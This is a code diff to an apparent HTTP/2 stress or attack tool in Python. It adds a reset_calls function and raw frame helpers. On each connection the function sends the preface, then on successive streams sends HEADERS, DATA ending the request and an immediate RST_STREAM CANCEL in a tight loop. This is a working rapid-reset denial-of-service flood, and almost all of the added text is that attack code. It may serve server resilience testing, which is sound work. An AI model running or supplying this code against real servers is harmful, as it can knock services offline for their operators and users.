@@ -2,12 +2,13 @@
 
 import selectors
 import socket
+import struct
 import threading
 from collections import Counter
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import ExitStack, contextmanager
-from itertools import cycle, islice, product
+from contextlib import ExitStack, contextmanager, suppress
+from itertools import count, cycle, islice, product
 from typing import NamedTuple
 
 from h2 import events
@@ -157,3 +158,34 @@ def unread(address: Address, calls: Sequence[Call], connections: int, window: in
         for each in held:
             each.flush()
         yield begun
+
+
+def reset_calls(address: Address, path: str, body: bytes, is_over: Callable[[], bool]) -> int:
+    """Sends complete calls without a token and resets each, as fast as the server reads.
+
+    Without h2, which would take the processor that the server needs. Returns the number of calls.
+    """
+    headers = [*_START, (":path", path), *_REST]
+    block = b"".join(b"\0" + _string(name) + _string(value) for name, value in headers)
+    begun = 0
+    while not is_over():
+        with socket.socket() as client, suppress(OSError):
+            client.settimeout(1)
+            client.connect(address)
+            client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
+            for stream in count(1, 2):
+                if is_over():
+                    break
+                # HEADERS, DATA that ends the request, RST_STREAM with CANCEL.
+                frames = _frame(1, 4, stream, block) + _frame(0, 1, stream, body)
+                client.sendall(frames + _frame(3, 0, stream, b"\0\0\0\x08"))
+                begun += 1
+    return begun
+
+
+def _string(text: str) -> bytes:
+    return bytes([len(text)]) + text.encode()
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack("!IBI", len(payload) << 8 | kind, flags, stream) + payload
